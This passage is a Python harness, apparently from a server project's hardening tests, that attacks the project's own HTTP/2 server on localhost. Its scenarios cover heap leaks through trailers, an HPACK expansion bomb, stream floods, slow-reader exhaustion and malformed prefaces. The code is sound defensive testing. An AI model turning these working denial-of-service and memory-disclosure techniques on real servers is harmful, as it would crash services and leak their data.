#!/usr/bin/env python3
"""A raw HTTP/2 (and HTTP/1.1) attacker for swift-micro's hardening tests (issue 16).

Frames are built by hand (h2wire.py); HPACK through the `hpack` package where a normal header block
will do, by hand (h2wire.py) where the attack needs control of the bytes. Every scenario prints ONE
JSON object on stdout with what it observed and exits 0; a failure of the script itself exits 2
(with {"error": ...} on stdout and a traceback on stderr). Nothing sleeps to synchronise: every
wait is for a frame, an EOF, a PING ACK or the process's exit (pidfd), bounded by --max-wait
(default 30 s; 60 for big-bodies, 10 for trailer-endpoint, 5 for bad-preface, lower-stream-id and
h1-space-before-colon). Fixed-time waits are used only where time is the thing measured (RSS
sampled over --duration). With --pid, the server's RSS (VmRSS, kB), CPU (utime+stime) and
liveness (kill(pid, 0), zombie state, pidfd) are read from /proc. Times in the output are seconds
from the scenario's own start (per connection: from its request).

Usage: h2_attack.py SCENARIO --port P [--host 127.0.0.1] [--tls --ca F --cert F --key F]
                    [--pid PID] [--max-wait S] [scenario options]

Scenarios (the defaults target helloworld's Helloworld.Greeting over the micro protocol; --grpc
with --path targets a gRPC method, e.g. counter's /counter.Counter/Echo):

  trailers-after-queued-answer  (finding 1) SETTINGS(INITIAL_WINDOW_SIZE=--window, default 0);
      HEADERS(1, END_HEADERS, POST /, micro-endpoint, micro-stream: 1) [+ one DATA with --body
      unless --no-body; with --grpc a gRPC Note message]; waits for the answer's HEADERS (its DATA
      is held by the zero window) and a PING ACK; then a trailer block HEADERS(1, END_STREAM, one
      --trailer-bytes (8 KB) field), WINDOW_UPDATE(1, --grant: default up to 2^31-1),
      WINDOW_UPDATE(0, 2^31-65536); reads until the stream ends, the connection closes, the
      granted window is used up (then a PING round trip) or the bound. Before the attack a normal
      call with a canary name is made on another connection (--no-canary to skip). Reports
      data_bytes (all DATA on stream 1), answer_content_length, data_matches_content_length,
      exceeds_real_answer (> --max-answer), canary_leaked, ended_by, frames, server_exited (pidfd)
      / server_alive, server_answers_ping (a fresh connection), rss; --dump FILE keeps the bytes.
      On the old code, the default kills the server before anything is sent; --grant 65536 gets
      64 KB of heap and a live server; --trailer-bytes 100 gets the answer's last 2 bytes only.
  open-stream       --conns N (50) connections, each HEADERS without END_STREAM, then nothing;
      per connection when RST_STREAM / GOAWAY / EOF came; counts closed within --max-wait.
  zero-window       --conns N connections, SETTINGS(INITIAL_WINDOW_SIZE=0), a whole request with
      END_STREAM (its answer is stuck); per connection what came and when.
  idle              --conns N connections: preface, SETTINGS, ACK of the server's SETTINGS, then
      nothing; GOAWAY code and time, close time. (The server's idle timeout is 60 s by default:
      use --max-wait 65 to see it.)
  never-read        --conns N connections (SO_RCVBUF --rcvbuf, 4096) each sending --requests (2000)
      whole requests (name of --name-bytes, 1000) as fast as the server takes them, never reading.
      A close is seen without reading: poll for POLLRDHUP/POLLHUP/POLLERR, and a PING sent every
      --probe-every (5) s (EPIPE/ECONNRESET; an orphaned server socket whose FIN is stuck behind
      unsent data answers it with RST). At the end: the kernel's queues (/proc/net/tcp: the server
      sockets' send queues, ours' receive queues), then a PING on each and everything read up to
      its ACK (--read-at-end bound): GOAWAY and RST_STREAM codes.
  big-bodies        one connection, --streams (200) streams each sending --mib (4) MiB of DATA
      without END_STREAM, within the windows the server grants (SETTINGS, WINDOW_UPDATE); stops
      when all is sent or no window opens for --stall s; then a PING ACK; RSS before/after, bytes
      accepted, windows granted, RST codes.
  tls-slow-reader   (finding 4) a server stream (counter's Count, --count 10^9 ticks of --size
      16384 bytes; gRPC with --grpc, else micro protocol) with the windows opened wide
      (SETTINGS 2^31-1 and a connection WINDOW_UPDATE), SO_RCVBUF small, never read; RSS sampled
      --samples times over --duration (20) s. Over TLS with --tls, h2c without (the comparison).
      The window the client grants (2 GiB) bounds the growth: the old server plateaus there.
  trailer-endpoint  (finding 6) an HTTP/2 request whose micro-endpoint is only in its trailer
      block (headers: POST /, content-type application/json; DATA {"name":...}; trailers:
      micro-endpoint); :status, body, headers. --h1: the same as an HTTP/1.1 chunked request with
      Micro-Endpoint only in the chunked trailer.
  refused-flood     a client that never reads (SO_RCVBUF small) opens new streams with tiny
      HEADERS+END_STREAM (indexed HPACK, ~15 bytes each) for --duration (20) s, far beyond
      MAX_CONCURRENT_STREAMS; requests sent and RSS sampled over time.
  hpack-bomb        --requests (3) requests, each on a new connection: a header block with one
      ~4 KB field inserted with incremental indexing then 1-byte references to it filling one
      HEADERS and --continuations (8) CONTINUATION frames of 16 KB; :status and the server's CPU
      seconds (utime+stime) per request.
  bad-preface       --variant h2spec|pri-xx|pri-bad-end|all (all): an invalid client preface;
      reports GOAWAY code, an HTTP/1.1 status line if one came, whether/when the server closed, and
      h2spec_would_pass: h2spec 2.x 3.5/2 sends "INVALID CONNECTION PREFACE" and reads the answer
      as frames, passing on GOAWAY(PROTOCOL_ERROR) or a bare close; an HTTP/1.1 400 before the
      close reads as a broken frame ("unexpected EOF") and fails.
  lower-stream-id   handshake; HEADERS(5, END_STREAM); HEADERS(3, END_STREAM): RFC 9113 5.1.1 /
      h2spec 5.1.1/2 expect a connection error GOAWAY(PROTOCOL_ERROR).
  h1-space-before-colon  --variant cl|te|control|all (all): HTTP/1.1 with `Content-Length : N`
      or `Transfer-Encoding : chunked` (RFC 9112 5.1: reject with 400), then a `Connection:
      close` sentinel request; every status line until EOF.
  server-empty-200  an h2c SERVER (as server-hpack-expanded) answering every request with a bare
      `:status 200`: no body, no content type (go-micro's HTTP transport over h2c)
  server-hpack-expanded  (finding 9, the other direction) an h2c SERVER on --listen-port (0:
      free; prints `listening on 127.0.0.1:PORT` on stderr first): answers the first request with a header block
      (and --blocks 2: a trailer block too) each of one ~4 KB indexed field and 1-byte references
      to it across HEADERS + 8 CONTINUATION frames (~147 KB, ~147k fields, ~600 MB expanded).
      Runs until the client closes or --max-wait; finds the client's pid through /proc (socket
      inode) and reports its VmRSS (sampled every 0.1 s) and VmHWM (peak) while it lives.
"""
import argparse
import base64
import json
import os
import select
import socket
import ssl
import struct
import sys
import time
import traceback

import hpack

from h2wire import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PADDED, PING, PRIORITY_FLAG,
                    RST_STREAM, SETTINGS, WINDOW_UPDATE, base128, frame, literal, literal_name, window_update)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION"]
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS", 4: "INITIAL_WINDOW_SIZE",
                 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE", 8: "ENABLE_CONNECT_PROTOCOL"}
S_INITIAL_WINDOW_SIZE = 4
MAX_WINDOW = 2**31 - 1


def error_name(code):
    return ERROR_NAMES[code] if 0 <= code < len(ERROR_NAMES) else "0x%x" % code


def settings_frame(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def ping_frame(opaque=b"h2attack", ack=False):
    return frame(PING, ACK if ack else 0, 0, opaque[:8].ljust(8, b"\0"))


def split_block(block, max_frame, sid, end_stream, max_frames=None):
    """HEADERS + CONTINUATION frames carrying `block`."""
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    if max_frames is not None and len(chunks) > max_frames:
        raise ValueError("block needs %d frames" % len(chunks))
    out = []
    for i, c in enumerate(chunks):
        last = i == len(chunks) - 1
        if i == 0:
            out.append(frame(HEADERS, (END_STREAM if end_stream else 0) | (END_HEADERS if last else 0), sid, c))
        else:
            out.append(frame(CONTINUATION, END_HEADERS if last else 0, sid, c))
    return b"".join(out)


def grpc_message(msg):
    return b"\x00" + struct.pack(">I", len(msg)) + msg


def pb_varint(v):
    return base128(v & ((1 << 64) - 1))


def pb_note(text):
    t = text.encode()
    return b"\x0a" + pb_varint(len(t)) + t


def pb_count_request(count, size):
    return b"\x08" + pb_varint(count) + b"\x10" + pb_varint(size)


# --- the server process --------------------------------------------------------------------------

def proc_status(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            fields = dict(line.split(":", 1) for line in f if ":" in line)
        return {k: v.strip() for k, v in fields.items()}
    except (FileNotFoundError, ProcessLookupError, PermissionError):
        return None


def rss_kb(pid):
    if pid is None:
        return None
    st = proc_status(pid)
    if not st or "VmRSS" not in st:
        return None
    return int(st["VmRSS"].split()[0])


def hwm_kb(pid):
    st = proc_status(pid) if pid else None
    if not st or "VmHWM" not in st:
        return None
    return int(st["VmHWM"].split()[0])


def cpu_s(pid):
    if pid is None:
        return None
    try:
        with open("/proc/%d/stat" % pid) as f:
            rest = f.read().rsplit(")", 1)[1].split()
        return (int(rest[11]) + int(rest[12])) / os.sysconf("SC_CLK_TCK")
    except (FileNotFoundError, ProcessLookupError, IndexError):
        return None


def alive(pid):
    if pid is None:
        return None
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    except PermissionError:
        pass
    st = proc_status(pid)
    return bool(st) and not st.get("State", "").startswith(("Z", "X"))


def wait_exit(pid, timeout):
    """True if the process exits within timeout (pidfd: an event, not a poll loop)."""
    if pid is None:
        return None
    try:
        fd = os.pidfd_open(pid)
    except ProcessLookupError:
        return True
    try:
        r, _, _ = select.select([fd], [], [], timeout)
        return bool(r) or not alive(pid)
    finally:
        os.close(fd)


def proc_net_tcp():
    """(local (ip, port), remote (ip, port), state, tx_queue, rx_queue, inode) of every TCP socket."""
    rows = []
    for path in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(path) as f:
                lines = f.readlines()[1:]
        except FileNotFoundError:
            continue
        for line in lines:
            p = line.split()
            (lip, lport), (rip, rport) = (a.split(":") for a in p[1:3])
            tx, rx = (int(x, 16) for x in p[4].split(":"))
            rows.append(((lip, int(lport, 16)), (rip, int(rport, 16)), int(p[3], 16), tx, rx, int(p[9])))
    return rows


TCP_STATES = {1: "ESTABLISHED", 2: "SYN_SENT", 3: "SYN_RECV", 4: "FIN_WAIT1", 5: "FIN_WAIT2", 6: "TIME_WAIT",
              7: "CLOSE", 8: "CLOSE_WAIT", 9: "LAST_ACK", 10: "LISTEN", 11: "CLOSING"}


def kernel_queues(server_port, client_ports):
    """The server's sockets towards our ports (send queues) and ours (receive queues)."""
    client_ports = set(client_ports)
    srv_tx, cli_rx, states = 0, 0, {}
    for (lip, lport), (rip, rport), st, tx, rx, _ in proc_net_tcp():
        if lport == server_port and rport in client_ports:
            srv_tx += tx
            states[TCP_STATES.get(st, st)] = states.get(TCP_STATES.get(st, st), 0) + 1
        elif rport == server_port and lport in client_ports:
            cli_rx += rx
    return {"server_send_queue_bytes": srv_tx, "client_recv_queue_bytes": cli_rx, "server_socket_states": states}


def pid_of_socket(local, remote):
    """The pid holding the TCP socket local -> remote (ports), by inode in /proc/*/fd."""
    inode = None
    for (lip, lport), (rip, rport), st, tx, rx, ino in proc_net_tcp():
        if lport == local and rport == remote and ino:
            inode = ino
            break
    if not inode:
        return None
    target = "socket:[%d]" % inode
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            for fd in os.listdir("/proc/%s/fd" % d):
                try:
                    if os.readlink("/proc/%s/fd/%s" % (d, fd)) == target:
                        return int(d)
                except OSError:
                    pass
        except OSError:
            pass
    return None


# --- a connection --------------------------------------------------------------------------------

class Closed(Exception):
    pass


class Peer:
    """One client connection: non-blocking socket, frame parser, event log."""

    def __init__(self, args, alpn="h2", rcvbuf=None, sock=None):
        self.args = args
        self.t0 = time.monotonic()
        if sock is None:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            if rcvbuf:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            sock.settimeout(10)
            sock.connect((args.host, args.port))
            if args.tls:
                ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                ctx.check_hostname = False
                ctx.load_verify_locations(args.ca)
                if args.cert:
                    ctx.load_cert_chain(args.cert, args.key)
                ctx.set_alpn_protocols([alpn])
                sock = ctx.wrap_socket(sock, server_hostname="localhost")
        sock.setblocking(False)
        self.sock = sock
        self.local_port = sock.getsockname()[1]
        self.inbuf = bytearray()
        self.eof = False
        self.reset = False
        self.closed_at = None
        self.write_error = None
        self.events = []  # every frame: dict
        self.log_limit = 5000
        self.counts = {}
        self.runs = []  # run-length frame types
        self.decoder = hpack.Decoder(max_header_list_size=1 << 30)
        self.decoder.max_allowed_table_size = 1 << 20
        self.hblock = None  # (sid, flags, bytes) while CONTINUATION is expected
        self.server_settings = {}
        self.auto_settings_ack = True
        self.ping_acks = 0
        self.bytes_in = 0
        self.data_bytes = {}  # stream id -> DATA bytes received
        self.data_kept = {}  # stream id -> the first keep_limit of them
        self.keep_limit = 1 << 20
        self.ended = {}  # stream id -> "end_stream" / "rst CODE"

    def now(self):
        return time.monotonic() - self.t0

    # sockets
    def fileno(self):
        return self.sock.fileno()

    def closed(self):
        return self.eof or self.reset

    def _mark_closed(self, reset):
        if not self.closed():
            self.closed_at = self.now()
        if reset:
            self.reset = True
        else:
            self.eof = True

    def recv_some(self, limit=1 << 20):
        """Read what is there (no waiting); False if nothing."""
        if self.closed():
            return False
        try:
            data = self.sock.recv(limit)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return False
        except (ConnectionResetError, ssl.SSLError, OSError) as e:
            if isinstance(e, ssl.SSLZeroReturnError) or isinstance(e, ssl.SSLEOFError):
                self._mark_closed(False)
            else:
                self._mark_closed(True)
            return True
        if not data:
            self._mark_closed(False)
            return True
        self.bytes_in += len(data)
        self.inbuf += data
        return True

    def wait_readable(self, timeout):
        if isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            return True
        r, _, _ = select.select([self.sock], [], [], max(0, timeout))
        return bool(r)

    def send_some(self, data):
        try:
            return self.sock.send(data)
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            return 0
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as e:
            self.write_error = type(e).__name__ + ": " + str(e)
            if not self.closed():
                self._mark_closed(True)
            raise Closed(self.write_error)

    def send(self, data, deadline=None, read=True):
        """Write all of data, reading into inbuf meanwhile (so neither side blocks); False on timeout."""
        view = memoryview(data)
        deadline = deadline or (time.monotonic() + self.args.max_wait)
        while view:
            n = self.send_some(view)
            view = view[n:]
            if not view:
                break
            left = deadline - time.monotonic()
            if left <= 0:
                return False
            r, w, _ = select.select([self.sock] if read and not self.closed() else [], [self.sock], [], left)
            if r:
                self.recv_some()
        return True

    # frames
    def parse_one(self):
        if len(self.inbuf) < 9:
            return None
        length = int.from_bytes(self.inbuf[0:3], "big")
        if len(self.inbuf) < 9 + length:
            return None
        ftype, flags = self.inbuf[3], self.inbuf[4]
        sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
        payload = bytes(self.inbuf[9:9 + length])
        del self.inbuf[:9 + length]
        return self.on_frame(ftype, flags, sid, payload)

    def on_frame(self, ftype, flags, sid, payload):
        name = FRAME_NAMES[ftype] if ftype < len(FRAME_NAMES) else "0x%x" % ftype
        ev = {"type": name, "flags": flags, "sid": sid, "len": len(payload), "t": round(self.now(), 3)}
        self.counts[name] = self.counts.get(name, 0) + 1
        if self.runs and self.runs[-1][0] == name:
            self.runs[-1][1] += 1
        else:
            self.runs.append([name, 1])
        if ftype == DATA:
            body = payload
            if flags & PADDED and body:
                body = body[1:len(body) - body[0]]
            ev["data"] = body
            ev["end_stream"] = bool(flags & END_STREAM)
            self.data_bytes[sid] = self.data_bytes.get(sid, 0) + len(body)
            kept = self.data_kept.setdefault(sid, bytearray())
            if len(kept) < self.keep_limit:
                kept += body[:self.keep_limit - len(kept)]
        elif ftype in (HEADERS, CONTINUATION):
            block = payload
            if ftype == HEADERS:
                ev["end_stream"] = bool(flags & END_STREAM)
                if flags & PADDED and block:
                    block = block[1:len(block) - block[0]]
                if flags & PRIORITY_FLAG:
                    block = block[5:]
                self.hblock = (sid, flags, bytearray(block))
            elif self.hblock:
                self.hblock[2].extend(block)
            if flags & END_HEADERS and self.hblock:
                ev["block_head"] = bytes(self.hblock[2][:8])  # the block's first bytes, as sent
                try:
                    ev["headers"] = [(k, v) for k, v in self.decoder.decode(bytes(self.hblock[2]))]
                except Exception as e:  # noqa: BLE001 - reported
                    ev["hpack_error"] = repr(e)
                ev["end_stream"] = bool(self.hblock[1] & END_STREAM)
                self.hblock = None
        elif ftype == RST_STREAM and len(payload) >= 4:
            ev["code"] = error_name(int.from_bytes(payload[:4], "big"))
        elif ftype == GOAWAY and len(payload) >= 8:
            ev["last_sid"] = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
            ev["code"] = error_name(int.from_bytes(payload[4:8], "big"))
            ev["debug"] = payload[8:200].decode("utf-8", "replace")
        elif ftype == WINDOW_UPDATE and len(payload) >= 4:
            ev["inc"] = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
        elif ftype == SETTINGS:
            if flags & ACK:
                ev["ack"] = True
            else:
                vals = {}
                for i in range(0, len(payload) - 5, 6):
                    k, v = struct.unpack(">HI", payload[i:i + 6])
                    vals[SETTING_NAMES.get(k, str(k))] = v
                ev["settings"] = vals
                self.server_settings.update(vals)
                if self.auto_settings_ack and not self.closed():
                    try:
                        self.send(settings_frame(ack=True))
                    except Closed:
                        pass
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
                ev["ack"] = True
            ev["opaque"] = payload[:8].hex()
        if sid and sid not in self.ended and (ev.get("end_stream") or ftype == RST_STREAM):
            self.ended[sid] = "end_stream" if ev.get("end_stream") else "rst %s" % ev.get("code")
        if len(self.events) < self.log_limit:
            self.events.append({k: v for k, v in ev.items() if k != "data"})
        return ev

    def next_frame(self, deadline):
        """The next frame, or None at EOF / the deadline."""
        while True:
            ev = self.parse_one()
            if ev is not None:
                return ev
            if self.closed():
                return None
            left = deadline - time.monotonic()
            if left <= 0:
                return None
            if self.wait_readable(left):
                self.recv_some()

    def wait_for(self, pred, deadline):
        """Frames until pred(ev) is true (returns ev) or EOF/deadline (returns None)."""
        while True:
            ev = self.next_frame(deadline)
            if ev is None or pred(ev):
                return ev

    def ping_roundtrip(self, deadline, opaque=b"syncsync"):
        """Send a PING and wait for its ACK: the server has processed everything sent before."""
        self.send(ping_frame(opaque))
        return self.wait_for(lambda e: e["type"] == "PING" and e.get("ack") and e["opaque"] == opaque.hex(),
                             deadline) is not None

    def drain(self, deadline, limit_bytes=1 << 30):
        while self.bytes_in < limit_bytes and self.next_frame(deadline) is not None:
            pass

    def summary(self, events=False):
        out = {"frames": [n if c == 1 else "%s x%d" % (n, c) for n, c in self.runs[:200]],
               "frame_counts": self.counts}
        gs = [e for e in self.events if e["type"] == "GOAWAY"]
        if gs:
            out["goaway_code"] = gs[0]["code"]
            out["goaway_last_sid"] = gs[0]["last_sid"]
            out["goaway_debug"] = gs[0]["debug"]
            out["goaway_after_s"] = gs[0]["t"]
        rsts = [e for e in self.events if e["type"] == "RST_STREAM"]
        if rsts:
            codes = {}
            for e in rsts:
                codes[e["code"]] = codes.get(e["code"], 0) + 1
            out["rst_codes"] = codes
            out["first_rst_after_s"] = rsts[0]["t"]
        out["closed_by_server"] = self.closed()
        out["closed_after_s"] = round(self.closed_at, 3) if self.closed_at is not None else None
        out["close_kind"] = "reset" if self.reset else "eof" if self.eof else None
        if events:
            out["events"] = [{k: v for k, v in e.items() if k != "data"} for e in self.events[:100]]
        return out

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def h2_connect(args, window=None, extra_settings=(), rcvbuf=None, alpn="h2"):
    p = Peer(args, alpn=alpn, rcvbuf=rcvbuf)
    settings = list(extra_settings)
    if window is not None:
        settings.append((S_INITIAL_WINDOW_SIZE, window))
    p.send(PREFACE + settings_frame(settings))
    return p


def request_headers(args, endpoint=None, stream_hint=False, grpc=None, path=None):
    grpc = args.grpc if grpc is None else grpc
    h = [(":method", "POST"), (":scheme", "https" if args.tls else "http"),
         (":path", path or args.path or ("/" if not grpc else "/counter.Counter/Echo")), (":authority", "x")]
    if grpc:
        h += [("content-type", "application/grpc"), ("te", "trailers")]
    else:
        h += [("content-type", "application/json"), ("micro-endpoint", endpoint or args.endpoint)]
        if stream_hint:
            h.append(("micro-stream", "1"))
    return h


def greeting_body(name):
    return json.dumps({"name": name}).encode()


def spread(values):
    vals = sorted(v for v in values if v is not None)
    if not vals:
        return None
    return {"min": vals[0], "median": vals[len(vals) // 2], "max": vals[-1], "n": len(vals)}


def server_snapshot(args, label):
    out = {}
    if args.pid:
        out["rss_kb_" + label] = rss_kb(args.pid)
        out["server_alive_" + label] = alive(args.pid)
    return out


def rss_after_close(args):
    """RSS once a fresh connection's PING has been answered (the loops have had a turn since)."""
    if not args.pid:
        return None
    probe_ping(args)
    return rss_kb(args.pid)


def probe_ping(args, timeout=3.0):
    """A fresh connection: does the server still answer a PING?"""
    try:
        p = h2_connect(args)
        ok = p.ping_roundtrip(time.monotonic() + timeout)
        p.close()
        return ok
    except OSError as e:
        return "connect failed: %s" % e


# --- scenarios -----------------------------------------------------------------------------------

def call_once(args, name, deadline):
    """A normal whole request; returns (status, body)."""
    p = h2_connect(args)
    enc = hpack.Encoder()
    body = greeting_body(name)
    p.send(frame(HEADERS, END_HEADERS, 1, enc.encode(request_headers(args, grpc=False, path="/")))
           + frame(DATA, END_STREAM, 1, body))
    status, data = None, bytearray()
    while True:
        ev = p.next_frame(deadline)
        if ev is None:
            break
        if ev["sid"] == 1 and ev["type"] == "HEADERS" and "headers" in ev and status is None:
            status = dict(ev["headers"]).get(":status")
        if ev["sid"] == 1 and ev["type"] == "DATA":
            data += ev["data"]
        if ev["sid"] == 1 and (ev.get("end_stream") or ev["type"] == "RST_STREAM"):
            break
    p.close()
    return status, bytes(data)


def sc_trailers_after_queued_answer(args):
    res = {}
    deadline = time.monotonic() + args.max_wait
    canary = None
    if not args.no_canary and not args.grpc:
        canary = "CANARY-%s" % os.urandom(6).hex()
        st, body = call_once(args, canary, deadline)
        res["canary_call"] = {"status": st, "body": body.decode("utf-8", "replace")}
    res.update(server_snapshot(args, "before"))
    p = h2_connect(args, window=args.window)
    p.keep_limit = args.keep_bytes
    enc = hpack.Encoder()
    hdrs = request_headers(args, stream_hint=not args.grpc)
    out = frame(HEADERS, END_HEADERS, 1, enc.encode(hdrs))
    if args.grpc:
        out += frame(DATA, 0, 1, grpc_message(pb_note("a")))
    elif not args.no_body:
        out += frame(DATA, 0, 1, args.body.encode())
    p.send(out)
    # the answer is produced: its HEADERS come (DATA is held by the window); then a PING round trip
    answer = p.wait_for(lambda e: e["sid"] == 1 and e["type"] in ("HEADERS", "RST_STREAM", "DATA"),
                        min(deadline, time.monotonic() + args.answer_wait))
    res["answer_before_trailers"] = None if answer is None else {
        k: v for k, v in answer.items() if k in ("type", "code", "end_stream", "t")}
    if answer is not None and "headers" in answer:
        res["answer_before_trailers"]["status"] = dict(answer["headers"]).get(":status")
    res["ping_ack_before_trailers"] = p.ping_roundtrip(deadline)
    res["data_bytes_before_trailers"] = p.data_bytes.get(1, 0)
    grant = args.grant if args.grant is not None else MAX_WINDOW - args.window
    trailer = literal("x-pad", "a" * args.trailer_bytes)
    ended = None
    try:
        p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, trailer)
               + window_update(1, grant) + window_update(0, MAX_WINDOW - 65535))
        res["attack_sent_at_s"] = round(p.now(), 3)
        if 1 in p.ended:
            # the answer was complete before the trailers: what follows them, up to a PING ACK
            res["stream1_ended_before_trailers"] = p.ended[1]
            res["ping_ack_after_trailers"] = p.ping_roundtrip(deadline)
            ended = "stream had ended before the trailers"
        while ended is None:
            ev = p.next_frame(deadline)
            if ev is None:
                ended = "eof" if p.closed() else "bound"
                break
            if ev["sid"] == 1 and (ev.get("end_stream") or ev["type"] == "RST_STREAM"):
                ended = "stream ended" if ev.get("end_stream") else "stream reset"
                break
            if p.data_bytes.get(1, 0) - res["data_bytes_before_trailers"] >= grant:
                # the window granted is used up: nothing more can come on stream 1; the server is
                # still responsive if it answers a PING
                ended = "window used up"
                res["ping_ack_after_window_used"] = p.ping_roundtrip(deadline)
                break
            if ev["type"] == "GOAWAY":
                ended = "goaway"
                # keep reading until EOF (bounded) to see what else comes
    except Closed as e:
        ended = "write failed: %s" % e
    data = p.data_kept.get(1, b"")
    total = p.data_bytes.get(1, 0)
    res["data_bytes"] = total
    res["ended_by"] = ended
    res["data_printable_fraction"] = (round(sum(32 <= b < 127 or b in (9, 10, 13) for b in data) / len(data), 3)
                                      if data else None)
    res["exceeds_real_answer"] = total > args.max_answer
    hb = [e for e in p.events if e["sid"] == 1 and e["type"] == "HEADERS" and "headers" in e]
    clen = dict(hb[0]["headers"]).get("content-length") if hb else None
    res["answer_content_length"] = int(clen) if clen and clen.isdigit() else None
    res["data_matches_content_length"] = res["answer_content_length"] == total if clen else None
    res["data_text"] = bytes(data[:300]).decode("utf-8", "replace") if res["data_printable_fraction"] == 1.0 else None
    res["data_head_b64"] = base64.b64encode(bytes(data[:96])).decode()
    if canary:
        res["canary_leaked"] = canary.encode() in data
    if args.dump:
        with open(args.dump, "wb") as f:
            f.write(data)
    bodies = [e for e in p.events if e["sid"] == 1 and e["type"] == "HEADERS" and "headers" in e]
    res["stream1_header_blocks"] = [e["headers"] for e in bodies[:4]]
    res.update(p.summary())
    p.close()
    if args.pid:
        res["server_exited"] = wait_exit(args.pid, 2.0) if p.closed() else not alive(args.pid)
        res["server_alive"] = alive(args.pid)
        res["rss_kb_after"] = rss_kb(args.pid)
    res["server_answers_ping"] = probe_ping(args)
    return res


def watch(peers, deadline):
    """Read every connection until each is closed or the deadline (answers SETTINGS)."""
    while True:
        open_ = [p for p in peers if not p.closed()]
        left = deadline - time.monotonic()
        if not open_ or left <= 0:
            return
        r, _, _ = select.select(open_, [], [], left)
        for p in r:
            p.recv_some()
            while p.parse_one() is not None:
                pass


def per_conn(p, t_ref):
    d = {}
    for e in p.events:
        if e["type"] == "RST_STREAM" and "rst" not in d:
            d["rst"] = [e["code"], round(e["t"] - t_ref, 3)]
        if e["type"] == "GOAWAY" and "goaway" not in d:
            d["goaway"] = [e["code"], round(e["t"] - t_ref, 3)]
        if e["type"] == "HEADERS" and e["sid"] and "answer_headers" not in d:
            d["answer_headers"] = [dict(e.get("headers", [])).get(":status"), round(e["t"] - t_ref, 3)]
    if p.closed():
        d["closed"] = ["reset" if p.reset else "eof", round(p.closed_at - t_ref, 3)]
    return d


def many_conns(args, setup):
    res = server_snapshot(args, "before")
    peers, refs = [], []
    for i in range(args.conns):
        p = setup(i)
        peers.append(p)
        refs.append(p.now())
    t_start = time.monotonic()
    watch(peers, t_start + args.max_wait)
    conns = [per_conn(p, r) for p, r in zip(peers, refs)]
    res["watched_s"] = round(time.monotonic() - t_start, 3)
    res["conns"] = len(peers)
    res["closed_by_server"] = sum(1 for c in conns if "closed" in c)
    res["with_goaway"] = sum(1 for c in conns if "goaway" in c)
    res["with_rst"] = sum(1 for c in conns if "rst" in c)
    res["still_open"] = sum(1 for p in peers if not p.closed())
    res["close_after_s"] = spread([c["closed"][1] for c in conns if "closed" in c])
    res["goaway_after_s"] = spread([c["goaway"][1] for c in conns if "goaway" in c])
    res["rst_after_s"] = spread([c["rst"][1] for c in conns if "rst" in c])
    codes = {}
    for c in conns:
        for k in ("goaway", "rst"):
            if k in c:
                codes["%s %s" % (k, c[k][0])] = codes.get("%s %s" % (k, c[k][0]), 0) + 1
    res["codes"] = codes
    res["kernel"] = kernel_queues(args.port, [p.local_port for p in peers])
    res["per_connection"] = conns
    res["first_connection_frames"] = peers[0].summary()["frames"] if peers else []
    res.update(server_snapshot(args, "after"))
    for p in peers:
        p.close()
    return res


def sc_open_stream(args):
    def setup(i):
        p = h2_connect(args)
        p.send(frame(HEADERS, END_HEADERS, 1, hpack.Encoder().encode(request_headers(args))))
        return p
    return many_conns(args, setup)


def sc_zero_window(args):
    def setup(i):
        p = h2_connect(args, window=0)
        enc = hpack.Encoder()
        if args.grpc:
            body = grpc_message(pb_note("x" * args.name_bytes))
        else:
            body = greeting_body("x" * args.name_bytes)
        p.send(frame(HEADERS, END_HEADERS, 1, enc.encode(request_headers(args))) + frame(DATA, END_STREAM, 1, body))
        return p
    return many_conns(args, setup)


def sc_idle(args):
    def setup(i):
        return h2_connect(args)
    return many_conns(args, setup)


def sc_never_read(args):
    res = server_snapshot(args, "before")
    body = greeting_body("x" * args.name_bytes)
    peers = []
    for i in range(args.conns):
        p = h2_connect(args, rcvbuf=args.rcvbuf)
        p.auto_settings_ack = False
        enc = hpack.Encoder()
        hdr_first = enc.encode(request_headers(args, grpc=False, path="/"))
        hdr = enc.encode(request_headers(args, grpc=False, path="/"))
        first = frame(HEADERS, END_HEADERS, 1, hdr_first) + frame(DATA, END_STREAM, 1, body)
        p.req_len = [len(first)] + [9 + len(hdr) + 9 + len(body)] * (args.requests - 1)
        p.next_req = 1
